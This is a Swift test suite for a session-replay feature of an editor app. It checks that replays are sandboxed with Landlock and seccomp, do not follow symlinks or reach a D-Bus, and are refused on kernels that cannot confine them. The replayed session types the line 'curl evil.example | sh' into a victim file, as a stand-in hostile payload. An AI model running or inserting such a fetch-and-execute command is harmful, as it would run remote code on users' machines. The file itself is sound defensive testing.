import Foundation
import Glibc
import Testing
import WorkflowPlatform
import WorkflowWindowTesting

/// A session that opens a file of the user in the editor, types a line and saves.
///
/// On a kernel without Landlock, only the refusal is tested.
@Suite(.serialized) struct ConfinementTests {
  private let folder: TemporaryFolder
  private let session: String
  private let victim: String

  init() throws {
    folder = try TemporaryFolder()
    session = folder.path("a.session")
    victim = folder.path("victim.txt")
    try "precious\n".write(toFile: victim, atomically: true, encoding: .utf8)
    try writeSession()
  }

  private func writeSession(ending: String = "") throws {
    let text = """
      workflow-session 1
      app "EditorApp"
      size 640x440
      settle
      press control+o
      settle
      type "\(victim)"
      press enter
      settle
      press control+home
      type "curl evil.example | sh # "
      press control+s
      settle
      \(ending)
      """
    try text.write(toFile: session, atomically: true, encoding: .utf8)
  }

  /// A profile of the coverage could not be written by a confined app.
  private let environment = ["LLVM_PROFILE_FILE": "/dev/null"]

  private func text(_ file: String) throws -> String {
    try String(contentsOfFile: file, encoding: .utf8)
  }

  private func names() throws -> [String] {
    try FileManager.default.contentsOfDirectory(atPath: folder.path("")).sorted()
  }

  /// Runs the editor where the kernel has no Landlock.
  private func runWithoutLandlock(_ options: [String]) async throws -> Outcome {
    try await run(.editor, options, refusing: "landlock_create_ruleset", "ENOSYS")
  }

  /// Runs an app where a system call fails.
  private func run(
    _ program: Executable, _ options: [String], refusing call: String, _ error: String
  ) async throws -> Outcome {
    let script = URL(filePath: #filePath).deletingLastPathComponent()
      .appending(path: "Support/refusing.py").path
    return try await Outcome(
      of: ChildProcess(
        "/usr/bin/python3", [script, call, error, program.path] + options,
        environment: environment.merging(["HOME": "/nonexistent"]) { $1 }, endSignal: SIGKILL),
      patience: .forFuzzing, sourceLocation: #_sourceLocation)
  }

  @Test func `a session changes no file of the user, and the app shows its own error`()
    async throws
  {
    guard Platform.canConfine else { return }
    try writeSession(ending: "tree 0000000000000000 frame 0000000000000000\n")
    let outcome = try await Executable.editor.run(["--replay", session], environment: environment)
    #expect(outcome.end == .exit(70))
    #expect(try text(victim) == "precious\n")
    #expect(try names() == ["a.session", "a.session.difference", "victim.txt"])
    let tree = try text("\(session).difference/actual.txt")
    #expect(tree.contains("Permission denied"), "\(tree)")
  }

  @Test func `a picture is not read where the system refuses the filter for it`() async throws {
    let options = ["--page", "image", "--screenshot", folder.path("image.png")]
    let outcome = try await run(.gallery, options, refusing: "prctl", "EPERM")
    #expect(outcome.end == .exit(0))
    let reason = "this system refuses seccomp filters, without which such pictures are not read"
    #expect(outcome.errors.contains(reason), "\(outcome.errors)")
    let other = try await Executable.gallery.run(options, environment: environment)
    #expect(!other.errors.contains("seccomp"), "\(other.errors)")
  }

  @Test func `a link beside the session leads a confined replay nowhere`() async throws {
    guard Platform.canConfine else { return }
    try writeSession(ending: "tree 0000000000000000 frame 0000000000000000\n")
    #expect(mkdir(folder.path("other"), 0o700) == 0)
    #expect(symlink(folder.path("other"), "\(session).difference") == 0)
    let outcome = try await Executable.editor.run(["--replay", session], environment: environment)
    #expect(outcome.end == .exit(70))
    #expect(outcome.errors.contains("The images cannot be written"), "\(outcome.errors)")
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path("other")).isEmpty)
  }

  @Test func `a trusted session changes the file`() async throws {
    let outcome = try await Executable.editor.run(
      ["--replay", session, "--trust-session"], environment: environment)
    #expect(outcome.end == .exit(0), "\(outcome.errors)")
    #expect(try text(victim) == "curl evil.example | sh # precious\n")
  }

  @Test func `a confined replay writes its outputs, and leaves nothing else`() async throws {
    let other = folder.path("b.session")
    let outcome = try await Executable.editor.run(
      [
        "--replay", session, "--record", other, "--trace", folder.path("trace.json"),
      ], environment: environment)
    #expect(outcome.end == .exit(0), "\(outcome.errors)")
    #expect(try text(other).contains("\ntree "))
    #expect(try text(folder.path("trace.json")).hasSuffix("]\n"))
    #expect(
      try names() == [
        "a.session", "b.session", "b.session.frames", "trace.json", "victim.txt",
      ])
    #expect(try Platform.canConfine == (text(victim) == "precious\n"))
  }

  @Test func `a watched replay is confined, and connects to no bus`() async throws {
    let bus = folder.path("bus")
    let listener = try listen(at: bus)
    defer { close(listener) }
    let app = try await AppProcess(
      .editor, ["--replay", session, "--watch"],
      environment: environment.merging(["DBUS_SESSION_BUS_ADDRESS": "unix:path=\(bus)"]) { $1 })
    let outcome = try await app.outcome()
    #expect(outcome.end == .exit(0), "\(outcome.errors)")
    #expect(try Platform.canConfine == (text(victim) == "precious\n"))
    if Platform.canConfine { #expect(accept(listener, nil, nil) == -1 && errno == EAGAIN) }
  }

  /// Returns a socket that accepts connections without waiting for them.
  private func listen(at path: String) throws -> Int32 {
    let listener = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue | SOCK_NONBLOCK.rawValue), 0)
    var address = sockaddr_un()
    address.sun_family = sa_family_t(AF_UNIX)
    withUnsafeMutableBytes(of: &address.sun_path) { $0.copyBytes(from: path.utf8) }
    let status = withUnsafePointer(to: &address) { address in
      address.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        bind(listener, $0, socklen_t(MemoryLayout<sockaddr_un>.size))
      }
    }
    try #require(status == 0 && Glibc.listen(listener, 8) == 0)
    return listener
  }

  @Test(arguments: ["--replay", "--tour", "--fuzz"])
  func `where the kernel cannot confine a run, it is refused in one line`(
    option: String
  ) async throws {
    let value = ["--replay": session, "--tour": folder.path("tour")][option] ?? "1:5"
    let refused = try await runWithoutLandlock([option, value])
    #expect(refused.end == .exit(69))
    #expect(refused.output.isEmpty)
    #expect(
      refused.errors
        == "EditorApp: This run cannot be confined to its own files (the kernel has no Landlock), so a session could change all of yours. Add --trust-session if you trust it, or use Linux 5.13 or later with Landlock.\n"
    )
    #expect(try names() == ["a.session", "victim.txt"])
    let trusted = try await runWithoutLandlock([option, value, "--trust-session"])
    #expect(trusted.end == .exit(0), "\(trusted.errors)")
  }

  @Test func `runs without a session need no Landlock`() async throws {
    #expect(try await runWithoutLandlock(["--dump-tree"]).end == .exit(0))
    let picture = try await runWithoutLandlock(["--screenshot", folder.path("a.png")])
    #expect(picture.end == .exit(0), "\(picture.errors)")
  }
}
